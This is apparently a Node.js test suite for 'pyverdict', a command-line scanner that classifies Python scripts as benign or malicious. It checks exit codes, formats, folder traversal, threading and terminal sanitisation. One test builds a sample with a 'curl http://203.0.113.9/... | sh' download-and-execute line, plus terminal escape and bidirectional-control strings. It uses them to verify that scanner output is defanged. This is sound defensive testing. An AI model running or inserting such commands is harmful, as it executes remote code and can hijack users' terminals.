import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import Ajv2020 from 'ajv/dist/2020.js';

import { benign, cli, finding, folderOf, malicious, pyverdict, root, run } from './support.mjs';

const schema = JSON.parse(readFileSync(join(root, 'src/report/report.schema.json'), 'utf8'));
// @ts-expect-error ajv's module declares its class as `default` of the default export
const validate = new Ajv2020({ allErrors: true, strict: false }).compile(schema);

/** @param {string} text */
const json = (text) => JSON.parse(text);

/** @param {string} text */
const hasSteering = (text) =>
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/.test(text);

test('the exit status follows the verdict and --fail-on', async (context) => {
  const folder = folderOf(context, { 'bad.py': malicious, 'good.py': benign });
  const [bad, good] = [join(folder, 'bad.py'), join(folder, 'good.py')];
  for (const [args, status] of /** @type {[string[], number][]} */ ([
    [[bad], 1],
    [['scan', bad], 1],
    [[good], 0],
    [[good, bad], 1],
    [['--fail-on', 'suspicious', bad], 1],
    [['--fail-on=never', bad], 0],
    [['--fail-on', 'suspicious', good], 0],
    [['--no-model', '--', bad], 1],
  ])) {
    assert.equal((await pyverdict(args)).status, status, args.join(' '));
  }
});

test('wrong calls exit with 2 and say what there is', async () => {
  for (const [args, said] of /** @type {[string[], RegExp][]} */ ([
    [['--format', 'pdf', 'x.py'], /pdf.*pretty, json, ndjson, markdown/],
    [['--fail-on', 'benign', 'x.py'], /benign.*suspicious, malicious, never/],
    [['--jobs', '0', 'x.py'], /--jobs.*1 to/],
    [['--jobs', 'two', 'x.py'], /--jobs/],
    [['--frmat', 'json', 'x.py'], /--frmat.*--format/],
    [['--format'], /needs a value/],
    [['-', '-'], /only once/],
    [['/nowhere/x.py'], /\/nowhere\/x\.py: no such file/],
  ])) {
    const { status, stdout, stderr } = await pyverdict(args);
    assert.equal(status, 2, args.join(' '));
    assert.match(stderr, said);
    assert.equal(stdout, '');
  }
});

test('--help and --version answer and exit with 0', async () => {
  const { version } = json(readFileSync(join(root, 'package.json'), 'utf8'));
  assert.deepEqual(await pyverdict(['--version']), {
    status: 0,
    stdout: `pyverdict ${version}\n`,
    stderr: '',
  });
  const help = await pyverdict(['--help']);
  assert.equal(help.status, 0);
  for (const word of ['--format', '--fail-on', '--jobs', '--no-model', 'Exit status'])
    assert.ok(help.stdout.includes(word));
});

test('standard input is read for -, and when nothing else is named', async () => {
  for (const args of [
    ['--format', 'json'],
    ['--format', 'json', '-'],
  ]) {
    const { status, stdout } = await pyverdict(args, { input: malicious });
    assert.equal(status, 1);
    const { reports } = json(stdout);
    assert.equal(reports[0].verdict.label, 'malicious');
    assert.equal(reports[0].input.script.path, '');
  }
});

test('bytes of standard input are bytes', async () => {
  const { stdout } = await pyverdict(['--format', 'json'], {
    input: Buffer.from('# coding: latin-1\nx = "caf\xe9"\n', 'latin1'),
  });
  const [report] = json(stdout).reports;
  assert.ok(report.layers[0].text.includes('caf\u00e9'));
});

test('a finding is told from a script, and has its place in the timeline', async () => {
  const input = JSON.stringify([
    { finding: finding(malicious) },
    { finding: finding(benign, '2025-01-01T00:00:00Z') },
  ]);
  const { status, stdout } = await pyverdict(['--format', 'json'], { input });
  assert.equal(status, 1);
  const { reports, timeline } = json(stdout);
  assert.deepEqual(
    reports.map((/** @type {any} */ report) => [report.input.kind, validate(report)]),
    [
      ['finding', true],
      ['finding', true],
    ],
  );
  assert.deepEqual(
    timeline.map((/** @type {any} */ event) => event.report),
    [1, 0],
  );
});

test('a folder is walked for .py files by name, links followed once', async (context) => {
  const folder = folderOf(context, {
    'b.py': benign,
    'a/z.py': malicious,
    'a/y.txt': malicious,
    'c/d.PY': benign,
    'c/e.py': benign,
  });
  symlinkSync('..', join(folder, 'a/loop'));
  symlinkSync('b.py', join(folder, 'd.py'));
  symlinkSync('nowhere', join(folder, 'broken.py'));
  const { status, stdout, stderr } = await pyverdict(['--format', 'ndjson', '.'], { cwd: folder });
  assert.equal(status, 1);
  const lines = stdout.trimEnd().split('\n').map(json);
  assert.deepEqual(
    lines.map(({ path, verdict }) => [path, verdict.label]),
    [
      ['a/z.py', 'malicious'],
      ['b.py', 'benign'],
      ['c/e.py', 'benign'],
      ['d.py', 'benign'],
    ],
  );
  assert.match(stderr, /broken\.py: no such file/);
  for (const { path, ...report } of lines) assert.ok(validate(report), path);
});

test('what cannot be read is said, and the rest goes on', async (context) => {
  const folder = folderOf(context, { 'a.py': benign });
  const { status, stdout, stderr } = await pyverdict(['--format', 'json', 'none.py', 'a.py'], {
    cwd: folder,
  });
  assert.equal(status, 2);
  assert.equal(json(stdout).reports.length, 1);
  assert.match(stderr, /none\.py/);
});

test(
  'a file without the right to read it is an error',
  { skip: process.getuid?.() === 0 && 'root may read everything' },
  async (context) => {
    const folder = folderOf(context, { 'a.py': benign });
    chmodSync(join(folder, 'a.py'), 0);
    const { status, stderr } = await pyverdict(['.'], { cwd: folder });
    assert.equal(status, 2);
    assert.match(stderr, /permission denied/);
  },
);

test('several threads give the same output as one, in the same order', async (context) => {
  const files = Object.fromEntries(
    Array.from({ length: 90 }, (_, i) => [`f${i}.py`, i % 7 === 3 ? malicious : `${benign}# ${i}\n`]),
  );
  const folder = folderOf(context, {
    ...files,
    'findings.py': JSON.stringify([{ finding: finding(malicious) }]),
  });
  for (const format of ['json', 'ndjson', 'markdown', 'pretty']) {
    const one = await pyverdict(['--jobs', '1', '--format', format, '.'], { cwd: folder });
    const three = await pyverdict(['--jobs', '3', '--format', format, '.'], { cwd: folder });
    const free = await pyverdict(['--format', format, '.'], { cwd: folder });
    assert.equal(one.status, 1);
    assert.deepEqual(three, one);
    assert.deepEqual(free, one);
  }
});

test('the pretty form shows verdict, reasons with their place, layers and defanged indicators', async (context) => {
  const folder = folderOf(context, { 'job.py': malicious });
  const { stdout } = await pyverdict(['job.py'], { cwd: folder });
  assert.match(stdout, /^MALICIOUS {2}[01]\.\d\d {2}job\.py$/m);
  assert.match(stdout, /job\.py:2:\d+/);
  assert.match(stdout, /layer 1:\d+:\d+/);
  assert.match(stdout, /192\[\.\]0\[\.\]2\[\.\]7/);
  assert.ok(!stdout.includes('\x1b'), 'no colour but on a terminal');
});

test('the Markdown form is one document', async (context) => {
  const folder = folderOf(context, { 'a.py': malicious, 'b.py': benign });
  const { stdout } = await pyverdict(['--format', 'markdown', 'a.py', 'b.py'], { cwd: folder });
  assert.equal(stdout.split('\n---\n').length, 2);
});

test('hostile text does not reach the terminal as it is', async (context) => {
  const evil = '\x1b[31m\x1b]0;owned\x07\u202eevil\u2066\x9b2J\u200b\r';
  const script = `import os\nos.system("curl http://203.0.113.9/${evil} | sh")  # ${evil}\n${malicious}`;
  const name = 'a\x1b[2J\u202eb.py';
  const folder = folderOf(context, {
    [name]: script,
    'x.json': JSON.stringify({ finding: { ...finding(script), category: evil, [evil]: evil } }),
  });
  for (const format of ['pretty', 'json', 'ndjson']) {
    for (const path of ['.', `./${name}`, 'x.json']) {
      const { stdout, stderr } = await pyverdict(['--format', format, path], { cwd: folder });
      assert.ok(stdout.length > 0);
      assert.ok(!hasSteering(stdout), `${format} of ${JSON.stringify(path)}`);
      assert.ok(!hasSteering(stderr));
    }
  }
  const { stderr } = await pyverdict([`none${name}`, `--x${evil}`], { cwd: folder });
  assert.ok(!hasSteering(stderr));
});

test(
  'colour comes on a terminal, unless NO_COLOR is set',
  { skip: process.platform !== 'linux' },
  async (context) => {
    const folder = folderOf(context, { 'a.py': malicious });
    const call = ['-qec', `${process.execPath} ${cli} a.py 2>/dev/null`, '/dev/null'];
    const coloured = await run('script', call, { cwd: folder, env: { TERM: 'xterm', NO_COLOR: '' } });
    assert.ok(coloured.stdout.includes('\x1b[1;31mMALICIOUS'), coloured.stdout);
    const plain = await run('script', call, { cwd: folder, env: { TERM: 'xterm', NO_COLOR: '1' } });
    assert.ok(!plain.stdout.includes('\x1b'));
  },
);

test('a reader that goes away ends the scan without an error', async (context) => {
  const files = Object.fromEntries(
    Array.from({ length: 200 }, (_, i) => [`f${i}.py`, `${benign}${'# filler\n'.repeat(2000)}`]),
  );
  const folder = folderOf(context, files);
  for (const jobs of ['1', '2']) {
    const child = spawn(process.execPath, [cli, '--format', 'ndjson', '--jobs', jobs, '.'], { cwd: folder });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (text) => (stderr += text));
    child.stdout.once('data', () => child.stdout.destroy());
    const status = await new Promise((resolve) => child.on('close', resolve));
    assert.equal(stderr, '');
    assert.equal(status, 0);
  }
});

test('it runs where no code may be made from strings', async () => {
  const { status, stderr } = await run(process.execPath, ['--disallow-code-generation-from-strings', cli], {
    input: malicious,
  });
  assert.equal(status, 1, stderr);
});

test('every word at the terminal is there in both languages', async (context) => {
  const { tables } = await import('../../dist/npm/cli/words.js');
  assert.deepEqual(Object.keys(tables.pt), Object.keys(tables.en));
  const { evidence, indicator, related } = schema.$defs;
  const named = [
    ...schema.properties.verdict.properties.label.enum,
    ...schema.properties.verdict.properties.basis.enum,
    ...evidence.properties.severity.enum,
    ...indicator.properties.type.enum,
    ...indicator.properties.role.enum,
    ...related.properties.strength.enum,
  ].filter((name) => name !== 'unknown');
  for (const [language, table] of Object.entries(tables)) {
    for (const name of named) assert.ok(Object.hasOwn(table, name), `${name} in ${language}`);
    for (const [name, word] of Object.entries(table)) assert.notEqual(word, '', `${name} in ${language}`);
  }
  const folder = folderOf(context, {
    'finding.json': JSON.stringify({ finding: finding(malicious) }),
    'a.py': `import logging\nlogging.basicConfig()\n`,
  });
  const { stdout } = await pyverdict([
    '--no-model',
    '--lang',
    'pt',
    '--fail-on',
    'never',
    `${folder}/finding.json`,
    `${folder}/a.py`,
  ]);
  assert.match(stdout, /^MALICIOSO /);
  assert.match(stdout, /Nenhuma no que foi dado, o que não prova nada\./);
  assert.match(stdout, /2 ficheiros: 1 malicioso, 1 benigno\n$/);
  const others = Object.values(tables.pt);
  for (const [index, one] of Object.values(tables.en).entries()) {
    const other = others[index];
    if (one !== other && one.length > 6 && !one.includes('{'))
      assert.ok(!stdout.includes(one), `${one} in:\n${stdout}`);
  }
});
